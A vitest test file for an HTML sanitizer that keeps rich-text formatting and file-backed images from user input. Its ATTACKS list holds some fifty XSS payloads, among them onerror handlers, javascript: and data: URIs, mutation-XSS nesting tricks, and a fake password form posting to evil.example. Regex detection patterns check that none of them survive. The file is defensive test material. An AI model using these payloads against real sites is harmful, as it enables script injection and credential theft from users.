import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { filesIn, keptText, textWithPictures, visibleLength, withFileNames } from '#server/html/rich-text.ts'

const fileOf = (address: string): number | null => {
  const [, id] = /^\/api\/file\/(\d+)/.exec(address) ?? []
  return id === undefined ? null : Number(id)
}
const keep = (html: string) => keptText(html, fileOf).html

/** Nothing of this can be in what was let through, as markup. */
const HARM = [
  /<(?!\/?(?:p|br|strong|em|u|ul|ol|li|sub|sup|a|img)\b)[a-z!?/]/i,
  /<[^>]*\son[a-z]+\s*=/i,
  /<[^>]*\sstyle\s*=/i,
  /<[^>]*(?:href|src)="(?!https?:\/\/|mailto:|\/api\/file\/)/i,
]

/** What stands in the quotes of an attribute is its value, whatever it looks like; addresses are looked at. */
const valuesLeftOut = (html: string): string =>
  html.replace(/<[^>]*>/g, (tag) =>
    tag.replace(/([\w-]+)="[^"]*"/g, (whole, name: string) =>
      /^(?:href|src)$/.test(name) ? whole : `${name}=""`,
    ),
  )

const expectHarmless = (html: string): void => {
  for (const harm of HARM) expect(valuesLeftOut(html)).not.toMatch(harm)
}

const ATTACKS = [
  '<img src=x onerror=alert(1)>',
  '<img src="/api/file/1" onerror="alert(1)" style="position:fixed;inset:0">',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="//evil.example/x.png">',
  '<img data-file="12">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https://a.example" onclick="alert(1)" target="_top">x</a>',
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<svg onload=alert(1)><g/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<style>@import "//evil.example/x.css"</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="//evil.example"><input name=p type=password><button>登录</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x/>',
  '<img src="/api/file/1" alt="&quot; onerror=&quot;alert(1)">',
  '<p><p><p id="root" class="login-dialog" name="x" tabindex="0">x',
  '&lt;img src=x onerror=alert(1)&gt;',
  '<<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<a href="https://a.example/?<script>">x</a>',
  `${'<p>'.repeat(3000)}x`,
]

describe('a text from outside', () => {
  test.each(ATTACKS)('does no harm: %s', (attack) => {
    const kept = keep(attack)
    expectHarmless(kept)
    expectHarmless(textWithPictures(kept, (id) => `/api/file/${id}?signature=x`))
    // What was kept before the rules were what they are now is not believed either.
    expectHarmless(textWithPictures(attack, (id) => `/api/file/${id}?signature=x`))
  })

  test('does no harm, however it is put together', () => {
    const part = fc.oneof(
      fc.constantFrom(...ATTACKS.slice(0, -1)),
      fc.string({ maxLength: 12 }),
      fc.constantFrom('<', '>', '"', "'", '<p>', '</p>', '<!--', '-->', '&', '\0', ' data-file="5"', '<img '),
    )
    fc.assert(
      fc.property(fc.array(part, { maxLength: 8 }), (parts) => {
        const { html: kept, fileIds } = keptText(parts.join(''), fileOf)
        expectHarmless(kept)
        expect(fileIds).toEqual(expect.arrayContaining(filesIn(kept)))
        // A second look changes nothing.
        expect(textWithPictures(kept, (id) => `/api/file/${id}`)).toBe(
          textWithPictures(
            textWithPictures(kept, (id) => `/api/file/${id}`).replace(
              /src="\/api\/file\/(\d+)"/g,
              'data-file="$1"',
            ),
            (id) => `/api/file/${id}`,
          ),
        )
      }),
      { numRuns: 300 },
    )
  })

  test('keeps its formats, and nothing that was empty', () => {
    expect(
      keep(
        '<div>一</div><p><b>二</b> <i>三</i> <u>四</u> x<sub>1</sub><sup>2</sup></p><p> <br></p><ul><li><p>五</p></li><li></li></ul>' +
          '<p>六<br><br><br><br>七</p><a href="https://a.example/?a=1&amp;b=2">八</a> <a href="mailto:a@b.cn">九</a>',
      ),
    ).toBe(
      '<p>一</p><p><strong>二</strong> <em>三</em> <u>四</u> x<sub>1</sub><sup>2</sup></p><ul><li><p>五</p></li></ul>' +
        '<p>六<br /><br />七</p><a href="https://a.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow ugc">八</a> ' +
        '<a href="mailto:a@b.cn" target="_blank" rel="noopener noreferrer nofollow ugc">九</a>',
    )
  })

  test('names its pictures by file, and shows them by address as long as they are there', () => {
    const kept = keptText(
      '<p>看<img src="/api/file/7?signature=a&amp;b" width="40" height="x"></p><img src="https://other.example/a.png"><img src="/api/file/8" alt="图" width="4" height="3">',
      fileOf,
    )
    expect(kept).toEqual({
      html: '<p>看<img data-file="7" alt="" /></p><img data-file="8" alt="图" width="4" height="3" />',
      fileIds: [7, 8],
    })
    expect(filesIn(kept.html)).toEqual([7, 8])
    expect(textWithPictures(kept.html, (id) => (id === 7 ? null : `/api/file/${id}?signature=b&c`))).toBe(
      '<p>看</p><img src="/api/file/8?signature=b&amp;c" alt="图" width="4" height="3" />',
    )
  })

  test('takes nothing that was typed for a picture', () => {
    for (const typed of [
      '<p>data-file="7"</p>',
      '<p>&lt;img data-file="7"&gt;</p>',
      '<p><a href="https://a.example/?x= data-file=%227%22">data-file="7" </a></p>',
      '<img src="/api/file/8" alt=\' data-file="7" \'>',
    ]) {
      const kept = keptText(typed, fileOf, 'question')
      expect(filesIn(kept.html)).toEqual(kept.fileIds)
      expect(withFileNames(kept.html, () => '')).not.toMatch(/<img/)
      expect(withFileNames(kept.html, (id) => `src="/${id}"`)).not.toContain('/7"')
    }
  })

  test('names the pictures of what is kept anew, or leaves them out', () => {
    const kept = '<p>甲 data-file="9"<img data-file="7" alt="$&amp;$1" /><img alt="" data-file="8" /></p>'
    expect(withFileNames(kept, (id) => (id === 8 ? '' : `src="/$&${id}"`))).toBe(
      '<p>甲 data-file="9"<img src="/$&7" alt="$&amp;$1" /></p>',
    )
  })

  test.each([
    ['', 0],
    ['<p>好 &amp; 坏</p>', 3],
    ['<p>\u200b&nbsp;</p>', 0],
    ['<p>😀</p><p>a</p>', 2],
  ])('is as long as what can be seen of it: %s', (html, length) => {
    expect(visibleLength(html)).toBe(length)
  })
})
